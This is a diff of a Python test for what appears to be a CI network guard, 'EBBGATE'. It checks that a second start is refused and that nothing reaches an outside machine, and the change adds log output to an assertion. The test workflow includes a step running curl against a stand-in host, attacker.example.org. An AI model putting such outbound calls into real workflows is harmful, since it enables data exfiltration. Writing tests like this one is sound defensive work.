@@ -92,7 +92,7 @@ def test_a_second_start_is_refused_and_the_first_guard_stays(runner: Runner, mac
             f"      - uses: {EBBGATE}\n        if: always()\n        with:\n          {LOCKS}\n      - run: curl -sS https://attacker.example.org/\n        if: always()"
         )
     )
-    assert result.conclusion == "failure"
+    assert result.conclusion == "failure", result.log + result.errors
     assert arrived(machine) == b""
 
 
